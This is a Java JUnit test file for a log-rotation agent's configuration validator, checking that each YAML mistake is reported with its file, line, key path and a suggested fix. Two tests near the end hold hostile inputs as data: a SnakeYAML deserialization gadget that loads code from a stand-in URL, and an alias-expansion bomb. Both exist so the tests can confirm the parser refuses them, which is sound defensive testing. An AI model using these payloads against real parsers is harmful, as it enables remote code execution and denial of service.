package io.fleetrotate.agent.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.fleetrotate.config.ConfigError;
import io.fleetrotate.config.ConfigException;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Each kind of mistake, with the file, line, key path and sentence it is reported with. */
class ConfigErrorsTest {
  @TempDir Path dir;

  @Test
  void sizeWithSpaceAndDecimalUnitNamesFileLineKeyPathAndFix() {
    Path file =
        ConfigFiles.write(
            dir,
            """
            files:
              - path: /var/log/a.log
              - path: /var/log/b.log
                trigger:
                  maxSize: 100 MB
            """);

    ConfigError error = ConfigFiles.errors(file, Map.of()).get(0);

    assertThat(error.file()).isEqualTo(file.toString());
    assertThat(error.line()).isEqualTo(5);
    assertThat(error.keyPath()).isEqualTo("files[1].trigger.maxSize");
    assertThat(error.message()).startsWith("\"100 MB\" is not a size; write e.g. 100MiB");
    assertThat(error.toString())
        .startsWith(
            file + ":5: files[1].trigger.maxSize: \"100 MB\" is not a size; write e.g. 100MiB");
  }

  @Test
  void everyMistakeIsReportedAtOnceInLineOrder() {
    Path file =
        ConfigFiles.write(
            dir,
            """
            checkInterval: 30
            http: { port: 99999 }
            files:
              - path: var/log/app.log
                compress: { codec: zstd, level: 25 }
            """);

    ConfigException e =
        catchThrowableOfType(ConfigException.class, () -> ConfigFiles.load(file, Map.of()));

    assertThat(e.errors())
        .extracting(ConfigError::line, ConfigError::keyPath)
        .containsExactly(
            org.assertj.core.groups.Tuple.tuple(1, "checkInterval"),
            org.assertj.core.groups.Tuple.tuple(2, "http.port"),
            org.assertj.core.groups.Tuple.tuple(4, "files[0].path"),
            org.assertj.core.groups.Tuple.tuple(5, "files[0].compress.level"));
    assertThat(e.getMessage().split("\n"))
        .hasSize(4)
        .allSatisfy(line -> assertThat(line).startsWith(file + ":"));
    assertThat(e.getMessage())
        .contains(":1: checkInterval: \"30\" is not a duration: it needs a unit; write e.g. 30s")
        .contains(":2: http.port: \"99999\" is out of range; write a whole number from 0 to 65535")
        .contains(":4: files[0].path: \"var/log/app.log\" is a relative path")
        .contains(
            ":5: files[0].compress.level: \"25\" is out of range; write a whole number from 1 to 19");
  }

  @Test
  void unknownKeySuggestsTheClosestKnownKey() {
    ConfigError error =
        ConfigFiles.onlyError(
            dir,
            """
            files:
              - path: /var/log/app.log
                trigger: { maxSzie: 100MiB, maxAge: 1d }
            """);

    assertThat(error.line()).isEqualTo(3);
    assertThat(error.keyPath()).isEqualTo("files[0].trigger.maxSzie");
    assertThat(error.message()).isEqualTo("unknown key; did you mean maxSize?");
  }

  @Test
  void unknownKeyFarFromAnyKnownKeyListsTheAllowedKeys() {
    ConfigError error =
        ConfigFiles.onlyError(dir, "http: { colour: blue }\n" + ConfigFiles.ONE_FILE);

    assertThat(error.line()).isEqualTo(1);
    assertThat(error.keyPath()).isEqualTo("http.colour");
    assertThat(error.message()).isEqualTo("unknown key; allowed here: enabled, bind, port");
  }

  @Test
  void unsetVariableWithoutDefaultIsAnErrorAtItsLine() {
    Path file =
        ConfigFiles.write(
            dir,
            """
            coordinator:
              url: http://coordinator:8420
              token: "${FLEETROTATE_AGENT_TOKEN}"
            """
                + ConfigFiles.ONE_FILE);

    List<ConfigError> errors = ConfigFiles.errors(file, Map.of());

    assertThat(errors).hasSize(1);
    assertThat(errors.get(0).line()).isEqualTo(3);
    assertThat(errors.get(0).keyPath()).isEqualTo("coordinator.token");
    assertThat(errors.get(0).message())
        .isEqualTo(
            "environment variable FLEETROTATE_AGENT_TOKEN is not set; set it, or write"
                + " ${FLEETROTATE_AGENT_TOKEN:-default} to give a default");
  }

  @Test
  void substitutedValueThatIsWrongSaysWhereItCameFrom() {
    Path file = ConfigFiles.write(dir, "http: { port: \"${PORT}\" }\n" + ConfigFiles.ONE_FILE);

    ConfigError error = ConfigFiles.errors(file, Map.of("PORT", "http")).get(0);

    assertThat(error.message())
        .isEqualTo(
            "\"http\" is not a whole number; write a whole number from 0 to 65535 (after"
                + " substituting \"${PORT}\")");
  }

  @Test
  void yamlSyntaxErrorCarriesItsLine() {
    ConfigError error =
        ConfigFiles.onlyError(
            dir,
            """
            files:
              - path: /var/log/app.log
                trigger: { maxSize: 1MiB
            checkInterval: 30s
            """);

    assertThat(error.line()).isBetween(3, 4);
    assertThat(error.keyPath()).isEmpty();
    assertThat(error.message()).startsWith("not valid YAML: ");
    assertThat(error.toString()).matches(".*agent\\.yaml:[34]: not valid YAML: .*");
  }

  @Test
  void duplicateKeyIsAnErrorAtTheSecondOccurrence() {
    ConfigError error =
        ConfigFiles.onlyError(
            dir,
            """
            checkInterval: 30s
            files:
              - path: /var/log/app.log
            checkInterval: 10s
            """);

    assertThat(error.line()).isEqualTo(4);
    assertThat(error.keyPath()).isEqualTo("checkInterval");
    assertThat(error.message()).isEqualTo("duplicate key; first written at line 1, keep only one");
  }

  @Test
  void missingRequiredKeysAreReportedWhereTheyBelong() {
    List<ConfigError> errors =
        ConfigFiles.errors(
            dir,
            """
            coordinator:
              heartbeat: 5s
            files:
              - group: web
            """);

    assertThat(errors)
        .extracting(ConfigError::line, ConfigError::keyPath)
        .containsExactly(
            org.assertj.core.groups.Tuple.tuple(1, "coordinator.url"),
            org.assertj.core.groups.Tuple.tuple(4, "files[0].path"));
    assertThat(errors.get(0).message())
        .isEqualTo("missing; write an http or https URL such as http://coordinator:8420");
  }

  @Test
  void fileWithoutFilesIsRefused() {
    ConfigError error = ConfigFiles.onlyError(dir, "checkInterval: 30s\n");

    assertThat(error.keyPath()).isEqualTo("files");
    assertThat(error.message()).startsWith("missing; list the logs to rotate");
  }

  @Test
  void wrongTypesSayWhatWasExpected() {
    List<ConfigError> errors =
        ConfigFiles.errors(
            dir,
            """
            http: { enabled: yes }
            lock: 5
            files:
              - path: /var/log/app.log
                trigger: { maxSize: [1, 2] }
            """);

    assertThat(errors)
        .extracting(ConfigError::keyPath, ConfigError::message)
        .containsExactly(
            org.assertj.core.groups.Tuple.tuple(
                "http.enabled", "\"yes\" is not a boolean; write true or false"),
            org.assertj.core.groups.Tuple.tuple(
                "lock", "must be a mapping of keys, not the value \"5\""),
            org.assertj.core.groups.Tuple.tuple(
                "files[0].trigger.maxSize", "must be a size such as 100MiB, not a list"));
  }

  @Test
  void invalidCronIncludesCronUtilsReason() {
    ConfigError error =
        ConfigFiles.onlyError(
            dir, ConfigFiles.ONE_FILE + "    trigger: { schedule: \"61 2 * * *\" }\n");

    assertThat(error.line()).isEqualTo(3);
    assertThat(error.keyPath()).isEqualTo("files[0].trigger.schedule");
    assertThat(error.message())
        .startsWith(
            "\"61 2 * * *\" is not a 5-field cron expression (minute hour day-of-month month"
                + " day-of-week): ")
        .contains("61");
  }

  @Test
  void cronThatNeverFiresIsRefused() {
    ConfigError error =
        ConfigFiles.onlyError(
            dir, ConfigFiles.ONE_FILE + "    trigger: { schedule: \"0 0 30 2 *\" }\n");

    assertThat(error.message()).isEqualTo("\"0 0 30 2 *\" never fires");
  }

  @Test
  void unknownTimeZoneAndTimeZoneWithoutScheduleAreRefused() {
    List<ConfigError> errors =
        ConfigFiles.errors(
            dir,
            """
            files:
              - path: /var/log/a.log
                trigger: { schedule: "0 2 * * *", timeZone: Europe/Pariss }
              - path: /var/log/b.log
                trigger: { maxAge: 1d, timeZone: UTC }
            """);

    assertThat(errors)
        .extracting(ConfigError::line, ConfigError::keyPath, ConfigError::message)
        .containsExactly(
            org.assertj.core.groups.Tuple.tuple(
                3,
                "files[0].trigger.timeZone",
                "\"Europe/Pariss\" is not a time zone; write a region such as Europe/Paris, or UTC"),
            org.assertj.core.groups.Tuple.tuple(
                5,
                "files[1].trigger.timeZone",
                "applies only to schedule; add a schedule or remove timeZone"));
  }

  @Test
  void invalidGlobIsRefused() {
    ConfigError error = ConfigFiles.onlyError(dir, "files:\n  - path: /var/log/[mcp/*.log\n");

    assertThat(error.line()).isEqualTo(2);
    assertThat(error.keyPath()).isEqualTo("files[0].path");
    assertThat(error.message()).startsWith("\"/var/log/[mcp/*.log\" is not a valid glob: ");
  }

  @Test
  void duplicatePathsAreRefusedEvenWhenSpelledDifferently() {
    ConfigError error =
        ConfigFiles.onlyError(
            dir,
            """
            files:
              - path: /var/log/app.log
              - path: /var/log//tmp/../app.log
            """);

    assertThat(error.line()).isEqualTo(3);
    assertThat(error.keyPath()).isEqualTo("files[1].path");
    assertThat(error.message())
        .isEqualTo(
            "duplicate path; files[0].path (line 2) already watches it; merge the two entries");
  }

  @Test
  void plainPathAlsoMatchedByAnotherEntrysGlobIsRefused() {
    ConfigError error =
        ConfigFiles.onlyError(
            dir,
            """
            files:
              - path: /var/log/mcp/*.log
              - path: /var/log/mcp/server.log
            """);

    assertThat(error.line()).isEqualTo(3);
    assertThat(error.message())
        .isEqualTo(
            "\"/var/log/mcp/server.log\" is matched by the glob \"/var/log/mcp/*.log\" of"
                + " files[0].path (line 2); a file must be watched by one entry only");
  }

  @Test
  void triggerSectionWithoutAnyTriggerIsRefusedRatherThanNeverRotating() {
    ConfigError error =
        ConfigFiles.onlyError(dir, ConfigFiles.ONE_FILE + "    trigger: { minSize: 1KiB }\n");

    assertThat(error.line()).isEqualTo(3);
    assertThat(error.keyPath()).isEqualTo("files[0].trigger");
    assertThat(error.message())
        .isEqualTo(
            "set at least one of maxSize, schedule and maxAge (or remove trigger for the default,"
                + " maxAge: 24h)");
  }

  @Test
  void backupDateFormatMustGiveAFileNameThatChangesDaily() {
    List<ConfigError> errors =
        ConfigFiles.errors(
            dir,
            """
            files:
              - path: /var/log/a.log
                backup: { dateFormat: "yyyy/MM/dd" }
              - path: /var/log/b.log
                backup: { dateFormat: "HH-mm" }
              - path: /var/log/c.log
                backup: { dateFormat: "yyyyMMdd qq", dir: archive }
            """);

    assertThat(errors)
        .extracting(ConfigError::line, ConfigError::keyPath)
        .containsExactly(
            org.assertj.core.groups.Tuple.tuple(3, "files[0].backup.dateFormat"),
            org.assertj.core.groups.Tuple.tuple(5, "files[1].backup.dateFormat"),
            org.assertj.core.groups.Tuple.tuple(7, "files[2].backup.dateFormat"),
            org.assertj.core.groups.Tuple.tuple(7, "files[2].backup.dir"));
    assertThat(errors.get(0).message())
        .startsWith("\"yyyy/MM/dd\" gives \"2024/12/31\", which cannot be part of a file name");
    assertThat(errors.get(1).message()).contains("gives the same name every day");
    assertThat(errors.get(3).message()).startsWith("\"archive\" is a relative path");
  }

  @Test
  void compressAheadWithDelayIsRefused() {
    ConfigError error =
        ConfigFiles.onlyError(
            dir,
            ConfigFiles.ONE_FILE + "    compress: { codec: zstd, delay: true, ahead: true }\n");

    assertThat(error.keyPath()).isEqualTo("files[0].compress.ahead");
    assertThat(error.message())
        .isEqualTo(
            "cannot be true with delay: true, since the delayed backup is still written after the"
                + " rotation; set ahead: false or delay: false");
  }

  @ParameterizedTest
  @ValueSource(strings = {"2KiB", "2GiB", "0"})
  void aCompressAheadFrameOutsideItsRangeIsOneSentence(String span) {
    ConfigError error =
        ConfigFiles.onlyError(
            dir, ConfigFiles.ONE_FILE + "    compress: { aheadFrame: " + span + " }\n");

    assertThat(error.keyPath()).isEqualTo("files[0].compress.aheadFrame");
    assertThat(error.message())
        .isEqualTo(
            "\""
                + span
                + "\" is out of range for a compress-ahead frame; write a size from 4KiB to 1GiB"
                + " such as 16MiB");
  }

  @Test
  void aCompressAheadFrameWithoutCompressAheadIsRefused() {
    ConfigError error =
        ConfigFiles.onlyError(
            dir, ConfigFiles.ONE_FILE + "    compress: { ahead: false, aheadFrame: 1MiB }\n");

    assertThat(error.keyPath()).isEqualTo("files[0].compress.aheadFrame");
    assertThat(error.message())
        .isEqualTo("has no effect when ahead is false; remove it or set ahead: true");
  }

  @Test
  void compressAheadMustBeABoolean() {
    ConfigError error =
        ConfigFiles.onlyError(dir, ConfigFiles.ONE_FILE + "    compress: { ahead: sometimes }\n");

    assertThat(error.keyPath()).isEqualTo("files[0].compress.ahead");
    assertThat(error.message()).contains("true").contains("false");
  }

  @Test
  void compressSettingsThatNoneIgnoresAreRefused() {
    ConfigError error =
        ConfigFiles.onlyError(
            dir, ConfigFiles.ONE_FILE + "    compress: { codec: none, level: 3 }\n");

    assertThat(error.keyPath()).isEqualTo("files[0].compress.level");
    assertThat(error.message())
        .isEqualTo("has no effect with codec none; remove it or choose zstd or gzip");
  }

  @Test
  void misspeltEnumValueGetsASuggestion() {
    ConfigError error =
        ConfigFiles.onlyError(dir, ConfigFiles.ONE_FILE + "    compress: { codec: zstandard }\n");

    assertThat(error.message())
        .isEqualTo("\"zstandard\" is not allowed; write one of gzip, none, zstd");
    ConfigError near =
        ConfigFiles.onlyError(dir, ConfigFiles.ONE_FILE + "    compress: { codec: gzpi }\n");
    assertThat(near.message()).endsWith("(did you mean gzip?)");
  }

  @Test
  void emptyAndMissingFilesAreReportedWithoutALine() {
    ConfigError empty = ConfigFiles.onlyError(dir, "# nothing yet\n");
    assertThat(empty.message()).isEqualTo("the file is empty; at least files must be configured");

    Path missing = dir.resolve("nope.yaml");
    List<ConfigError> errors = ConfigFiles.errors(missing, Map.of());
    assertThat(errors).hasSize(1);
    assertThat(errors.get(0).line()).isZero();
    assertThat(errors.get(0).toString())
        .isEqualTo(missing + ": cannot read the file: it does not exist");
  }

  @Test
  void globalTypeTagsAreRefused() {
    ConfigError error =
        ConfigFiles.onlyError(
            dir,
            """
            node: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
            """
                + ConfigFiles.ONE_FILE);

    // SnakeYAML 2's default tag inspector refuses global tags while composing, before any
    // value is read; nothing is ever constructed from a tag either way.
    assertThat(error.line()).isEqualTo(1);
    assertThat(error.keyPath()).isEmpty();
    assertThat(error.message()).startsWith("not valid YAML: Global tag is not allowed");
  }

  @Test
  void aliasExpansionBombIsRefusedAsInvalidYaml() {
    StringBuilder yaml = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
    for (int i = 1; i < 60; i++) {
      yaml.append("a").append(i).append(": &a").append(i);
      yaml.append(" [*a").append(i - 1).append(", *a").append(i - 1).append("]\n");
    }

    ConfigError error = ConfigFiles.errors(dir, yaml.toString()).get(0);

    assertThat(error.keyPath()).isEmpty();
    assertThat(error.message()).startsWith("not valid YAML: ").contains("aliases");
  }
}
